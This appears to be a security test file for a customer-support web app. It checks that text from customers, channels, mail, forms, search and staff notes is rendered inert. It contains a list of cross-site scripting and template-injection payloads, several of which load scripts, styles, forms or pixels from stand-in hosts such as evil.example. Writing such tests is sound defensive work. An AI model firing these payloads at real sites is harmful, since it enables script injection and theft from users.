"""Attack 14: scripts in what customers write, by every channel, on the customer's page, at the desk and in mail."""

from __future__ import annotations

from collections.abc import Callable
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pytest

from chalicelib.attachments.model import Attachment
from chalicelib.channels.model import CHANNELS
from chalicelib.ids import new_id
from chalicelib.signin.model import Kind
from tests.browser import Browser, Page
from tests.people import People
from tests.security.watching import form_token

if TYPE_CHECKING:
    from tests.conftest import MailRoom

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://x/",
    "data:text/html,<script>alert(1)</script>",
    'http://x/" onmouseover="alert(1)',
    "http://x/'onmouseover='alert(1)",
    "http://x/`onmouseover=alert(1)`",
    "http://javascript:alert(1)@x/",
    'https://x/"><script>alert(1)</script>',
    "https://x/\u202egnp.exe",
    "http://x/&quot;onmouseover=alert(1)&quot;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<body onload=alert(1)><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/t)}</style>",
    "<form action=//evil.example><button>Send</button></form>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> @{7*7}",
    "[redacted]<script>alert(1)</script>",
    "<img src='https://tracker.example/pixel.gif' width=1 height=1>",
    "\u2028<script>alert(1)</script>\u2029",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)

_RUNS = (
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "meta",
    "link",
    "style",
    "svg",
    "math",
    "img",
    "form",
    "template",
    "frame",
)


class _Shape(HTMLParser):
    """The elements and attributes of a page, without any text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def harmless(html: str, like: str) -> None:
    """Check that a page has no element that runs or loads something beyond those of the same page with plain text."""
    shape, plain = _Shape(html), _Shape(like)
    for tag in _RUNS:
        assert shape.tags.count(tag) == plain.tags.count(tag), tag
    assert {name for _, name, _ in shape.attributes} <= {name for _, name, _ in plain.attributes} | {"rel"}
    for tag, name, value in shape.attributes:
        assert not name.startswith("on")
        if name in {"href", "src", "action"}:
            ours = value.startswith(("/", "#", "http://localhost"))
            linked = tag == "a" and value.lower().startswith(("http://", "https://"))
            assert ours or linked, (tag, value)


CHUNKS = [SCRIPTS[start : start + 7] for start in range(0, len(SCRIPTS), 7)]
"""Several in one message, to have fewer of them."""


def shown(text: str) -> str:
    """Return what is to be read of a text on a page: white space does not count, and control characters are gone."""
    return " ".join(text.replace("\x00", "").split())


def test_what_is_written_in_the_portal_is_shown_as_text(browse: Callable[..., Browser], people: People) -> None:
    """Name, subject and text of every script, on every page of the customer and of the desk."""
    owner, agent = browse(people.owner), browse(people.agent)
    quiet = people.starts(people.owner, subject="Plain http://lamps.example/", body="Plain http://lamps.example/")
    token = form_token(owner)
    likes = {
        path: browser.get(path.format(quiet.id)).body
        for browser, path in ((owner, "/account"), (owner, "/conversations/{}"), (agent, "/desk/conversations/{}"))
    }
    for chunk in CHUNKS:
        body = "\n\n".join(chunk)
        owner.post("/account", {"csrf": token, "name": body[:80], "mail_replies": "1"})
        page: Page = owner.post("/conversations", {"csrf": token, "subject": body[:200], "body": body})
        assert page.status == 200
        conversation = page.path.split("/")[2]
        assert page.one("#m1 .said").text == shown(body)
        for path, like in likes.items():
            harmless((agent if path.startswith("/desk") else owner).get(path.format(conversation)).body, like)
        updates = (owner.get(f"/conversations/{one}/updates").json()["html"] for one in (conversation, quiet.id))
        harmless(*updates)
    for browser, path in ((owner, "/conversations"), (agent, "/desk"), (owner, "/conversations?q=alert")):
        shape = _Shape(browser.get(path).body)
        assert shape.tags.count("script") == 1
        assert not [name for _, name, _ in shape.attributes if name.startswith("on") or name == "style"]


def test_what_comes_by_a_channel_is_shown_as_text(
    browse: Callable[..., Browser], people: People, subtests: pytest.Subtests
) -> None:
    """As it lies in the table, whoever put it there: subject, text, file names, of messages in and out."""
    said = tuple("\n\n".join(chunk) for chunk in CHUNKS)
    for channel in sorted(CHANNELS):
        with subtests.test(channel):
            file = Attachment(new_id(people.clock()), "<img src=x onerror=alert(1)>.png", "text/html", 3)
            owner, agent = browse(people.owner), browse(people.agent)
            (quiet,) = people.plant(
                people.owner,
                ("http://a.example/",) * len(CHUNKS),
                channel=channel,
                attachments=(Attachment(file.id, "a.png", "image/png", 3),),
            )
            (loud,) = people.plant(
                people.owner, said, channel=channel, subject=SCRIPTS[2].replace("{", ""), attachments=(file,)
            )
            for browser, base in ((owner, "/conversations"), (agent, "/desk/conversations")):
                harmless(browser.get(f"{base}/{loud.id}").body, browser.get(f"{base}/{quiet.id}").body)
                loud_html, quiet_html = (
                    browser.get(f"{base}/{one.id}/updates").json()["html"] for one in (loud, quiet)
                )
                harmless(loud_html, quiet_html)
            page = owner.get(f"/conversations/{loud.id}")
            for number, text in enumerate(said, 1):
                assert shown(page.one(f"#m{number} .said").content.replace("\ufffd", "")).startswith(shown(text))


def test_mail_carries_it_as_text(people: People, mail_room: MailRoom) -> None:
    """An answer, the quoted messages below it, the subject and the names: no element that mail programs would run."""
    people.house.portal.settings.change(organization="Plain & Co")
    quiet = people.answers(people.starts(people.owner, subject="Plain", body="http://a.example/"), "http://a.example/")
    (mail,) = mail_room.deliver()
    part = mail.get_body(("html",))
    assert part is not None
    like = part.get_content()
    assert quiet.last_seq == 2
    for chunk in CHUNKS:
        people.house.portal.settings.change(organization=f"<b>Lamps</b>{chunk[0]}"[:80])
        text = "\n\n".join(chunk)
        people.answers(people.starts(people.owner, subject=text[:200], body=text), text)
        (mail,) = mail_room.deliver()
        part = mail.get_body(("html",))
        assert part is not None
        harmless(part.get_content(), like)


def test_a_refused_form_gives_it_back_as_text(browse: Callable[..., Browser], people: People) -> None:
    """What was typed comes back in the box, whatever would end the box."""
    owner = browse(people.owner)
    conversation = people.starts(people.owner)
    token = form_token(owner)
    like = owner.post(f"/conversations/{conversation.id}/messages", {"csrf": token, "body": "x" * 10_241}).body
    for script in map("\n".join, CHUNKS):
        text = script + "x" * 10_241
        page = owner.post(f"/conversations/{conversation.id}/messages", {"csrf": token, "body": text})
        assert page.status == 422
        assert shown(page.one("textarea[name=body]").content.replace("\ufffd", "")) == shown(text)
        harmless(page.body, like)
        forged = owner.post(f"/conversations/{conversation.id}/messages", {"csrf": "", "body": script})
        assert forged.status == 403
        harmless(forged.body, owner.post(f"/conversations/{conversation.id}/messages", {"csrf": "", "body": "x"}).body)
        login = browse()
        login.get("/login")
        again = login.submit("Send me a code", email=script)
        assert again.status == 422
        assert len(again.all("script")) == 1


def test_a_search_gives_it_back_as_text(browse: Callable[..., Browser], people: People) -> None:
    owner = browse(people.owner)
    people.starts(people.owner)
    owner.get("/conversations?q=plain")
    like = owner.page.body
    for script in SCRIPTS:
        owner.submit(owner.page.one("form.search"), q=script)
        assert owner.page.status == 200
        harmless(owner.page.body, like)


def test_staff_are_customers_of_each_others_scripts(browse: Callable[..., Browser], people: People) -> None:
    """Notes, renamed subjects and answers are text, too."""
    agent = browse(people.agent)
    token = form_token(agent, Kind.STAFF)
    pages = []
    for texts in (["http://a.example/"], ["\n".join(chunk) for chunk in CHUNKS]):
        path = f"/desk/conversations/{people.starts(people.owner).id}"
        for text in texts:
            for action in ("notes", "subject", "messages"):
                agent.post(f"{path}/{action}", {"csrf": token, "body": text, "subject": text[:200]}, follow=False)
        pages.append(_Shape(agent.get(path).body))
    assert pages[1].tags.count("script") == pages[0].tags.count("script")
    assert {name for _, name, _ in pages[1].attributes} == {name for _, name, _ in pages[0].attributes}
